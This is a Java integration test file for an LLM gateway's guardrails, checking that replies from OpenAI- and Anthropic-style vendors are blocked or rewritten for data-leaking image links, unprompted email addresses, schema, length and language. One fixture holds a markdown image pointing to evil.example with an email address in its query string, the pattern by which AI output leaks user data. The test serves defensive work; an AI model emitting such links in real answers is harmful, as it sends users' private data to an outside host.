package io.trustrail.gateway.it.wire;

import static org.assertj.core.api.Assertions.assertThat;

import io.trustrail.gateway.it.fixture.Await;
import io.trustrail.gateway.it.fixture.GatewayFixture;
import io.trustrail.gateway.it.fixture.PolicyDirectory;
import io.trustrail.gateway.it.fixture.Reply;
import io.trustrail.gateway.it.fixture.Wire;
import io.trustrail.gateway.it.vendor.Script;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** What answers must not tell, and how they must look: in both dialects, whole and in streams. */
@Timeout(120)
class LeaksIT {

    private static final String WITHHELD = "This answer was withheld by a guardrail.";
    private static final String ASKED = "I am jo@example.org, and I would like to know where my order is.";

    @RegisterExtension
    static final GatewayFixture GATEWAY = new GatewayFixture();

    @BeforeAll
    static void guardsAreInForce() {
        var policy = PolicyDirectory.original()
                .replace("guards:\n  pii:\n", """
                    guards:
                      addresses:
                        detector: exfiltration
                        settings: {hosts: ["*.house.example"]}
                        rules:
                          - {direction: reply, categories: [EXFILTRATION], min-score: 0.8, action: block}
                          - {direction: reply, categories: [EXTERNAL_IMAGE], action: rewrite, operator: redact}
                          - {action: flag}
                      untold:
                        detector: pii
                        rules:
                          - {direction: reply, unless-in-prompt: true, action: rewrite, operator: redact}
                          - {action: allow}
                      form:
                        detector: json-schema
                        settings: {schema: {type: object, required: [n], properties: {n: {type: integer}}}}
                        rules: [{action: block}]
                      short:
                        detector: length
                        settings: {max-characters: 40, min-sentences: 2}
                        rules: [{action: block}]
                      language:
                        detector: language
                        settings: {same-as-prompt: true}
                        rules: [{direction: reply, action: block}, {action: allow}]
                      pii:
                    """)
                .replace(
                        "features:\n",
                        "features:\n" + feature("addresses", 1, "pii, addresses")
                                + feature("untold", 2, "untold")
                                + feature("form", 2, "form")
                                + feature("short", 2, "short")
                                + feature("language", 2, "language"));
        var before = GATEWAY.health().getString("policyHash");
        GATEWAY.policies().write(policy);
        Await.until(
                "the new policy",
                () -> !GATEWAY.health().getString("policyHash").equals(before));
    }

    private static String feature(String name, int level, String guards) {
        return """
              %s:
                level: %d
                targets:
                  - {vendor: openai, model: gpt-4.1-mini}
                  - {vendor: anthropic, model: claude-sonnet-4-5}
                guards: [%s]
            """.formatted(name, level, guards);
    }

    /** What the client reads when the vendor answers so, in pieces of five characters. */
    private static String told(Wire wire, boolean stream, String feature, String answer) {
        var pieces = answer.split("(?<=\\G.{5})", -1);
        GATEWAY.vendor().answers(stream ? Script.sse(wire.stream(pieces)) : Script.json(wire.answer(answer)));
        var reply =
                GATEWAY.caller().post(wire.path(), wire.prompt(feature, ASKED).put("stream", stream));
        assertThat(reply.status()).as(reply.text()).isEqualTo(200);
        if (stream) {
            return wire.streamedText(reply.text());
        }
        return reply.text().contains(WITHHELD) ? WITHHELD : wire.textOf(reply.json());
    }

    private static String stopped(boolean stream, String before) {
        return stream ? before : WITHHELD;
    }

    @ParameterizedTest
    @CsvSource({"OPENAI, false", "OPENAI, true", "ANTHROPIC, false", "ANTHROPIC, true"})
    void addressesThatCarryDataStopAnAnswer(Wire wire, boolean stream) {
        var told = told(wire, stream, "addresses", "Look: ![x](https://evil.example/p.png?d=[EMAIL_7K3QZD]) nice");

        assertThat(told).isEqualTo(stopped(stream, "Look: ![x]("));
        assertThat(GATEWAY.lastClosed().getString("outcome")).isEqualTo("blocked_reply");
    }

    @ParameterizedTest
    @CsvSource({"OPENAI, false", "OPENAI, true", "ANTHROPIC, false", "ANTHROPIC, true"})
    void imagesFromElsewhereAreTakenOut(Wire wire, boolean stream) {
        var told = told(
                wire,
                stream,
                "addresses",
                "Ours ![a](https://cdn.house.example/a.png), theirs ![b](//evil.example/b.png), a link"
                        + " https://a.example.");

        assertThat(told)
                .isEqualTo("Ours ![a](https://cdn.house.example/a.png), theirs ![b]([EXTERNAL_IMAGE]),"
                        + " a link https://a.example.");
    }

    @ParameterizedTest
    @CsvSource({"OPENAI, false", "OPENAI, true", "ANTHROPIC, false", "ANTHROPIC, true"})
    void whatNobodyToldIsTakenOut(Wire wire, boolean stream) {
        var told = told(wire, stream, "untold", "Dear JO@example.org, write to ann@example.net or jo@example.org!");

        assertThat(told).isEqualTo("Dear JO@example.org, write to [EMAIL] or jo@example.org!");
        assertThat(GATEWAY.vendor().onlyRequest().text()).contains("jo@example.org");
    }

    @ParameterizedTest
    @CsvSource({"OPENAI, false", "OPENAI, true", "ANTHROPIC, false", "ANTHROPIC, true"})
    void answersHaveTheFormThatWasAgreed(Wire wire, boolean stream) {
        assertThat(told(wire, stream, "form", "```json\n{\"n\": 1}\n```")).isEqualTo("```json\n{\"n\": 1}\n```");
        GATEWAY.vendor().reset();
        assertThat(told(wire, stream, "form", "{\"n\": \"one\"}")).isEqualTo(stopped(stream, ""));
        GATEWAY.vendor().reset();
        assertThat(told(wire, stream, "form", "Here you are: 1")).isEqualTo(stopped(stream, ""));
    }

    @Test
    void reasoningBesideAnAnswerHasNoForm() {
        var answer = Wire.OPENAI.answer("{\"n\": 1}");
        answer.getJsonArray("choices")
                .getJsonObject(0)
                .getJsonObject("message")
                .put("reasoning_content", "They want a number. One will do, I think, for the time being.");
        GATEWAY.vendor().answers(Script.json(answer));
        var reply = GATEWAY.caller().post(Wire.OPENAI.path(), Wire.OPENAI.prompt("form", ASKED));

        assertThat(Wire.OPENAI.textOf(reply.json())).isEqualTo("{\"n\": 1}");
    }

    @ParameterizedTest
    @CsvSource({"OPENAI, false", "OPENAI, true", "ANTHROPIC, false", "ANTHROPIC, true"})
    void answersHaveTheLengthThatWasAgreed(Wire wire, boolean stream) {
        assertThat(told(wire, stream, "short", "It is here. It is yours.")).isEqualTo("It is here. It is yours.");
        GATEWAY.vendor().reset();
        assertThat(told(wire, stream, "short", "It is here")).isEqualTo(stopped(stream, ""));
        GATEWAY.vendor().reset();
        assertThat(told(wire, stream, "short", "It is here. It is there. It is everywhere and yours."))
                .isEqualTo(stopped(stream, "It is here. It is there. It is everywher"));
    }

    @ParameterizedTest
    @CsvSource({"OPENAI, false", "OPENAI, true", "ANTHROPIC, false", "ANTHROPIC, true"})
    void answersAreInTheLanguageOfTheQuestion(Wire wire, boolean stream) {
        var english = "It is on the way, and it will be with you tomorrow. ";
        assertThat(told(wire, stream, "language", english)).isEqualTo(english);
        GATEWAY.vendor().reset();
        assertThat(told(
                        wire,
                        stream,
                        "language",
                        english + "Die Bestellung ist unterwegs und wird morgen bei Ihnen sein."))
                .isEqualTo(stopped(stream, english));
    }

    @Test
    void aChatIsCheckedTheSame() {
        var messages = new JsonArray()
                .add(new JsonObject().put("role", "user").put("content", ASKED))
                .add(new JsonObject().put("role", "assistant").put("content", "jo@example.org, not ann@example.net"));
        Reply reply = GATEWAY.caller()
                .post("/v1/guard", new JsonObject().put("model", "untold").put("messages", messages));

        assertThat(reply.json().getJsonArray("messages").getJsonObject(1).getString("content"))
                .isEqualTo("jo@example.org, not [EMAIL]");
    }

    @Test
    void whyAnAnswerDoesNotFitIsToldWithoutTheAnswer() {
        Reply reply = GATEWAY.caller()
                .post(
                        "/v1/guard",
                        new JsonObject()
                                .put("model", "form")
                                .put("direction", "reply")
                                .put("input", "{\"n\": \"Jane\"}"));

        var finding = reply.json()
                .getJsonArray("results")
                .getJsonObject(0)
                .getJsonArray("findings")
                .getJsonObject(0);
        assertThat(finding.getString("category")).isEqualTo("SCHEMA_MISMATCH");
        assertThat(finding.getString("detail")).isEqualTo("/properties/n/type");
    }
}
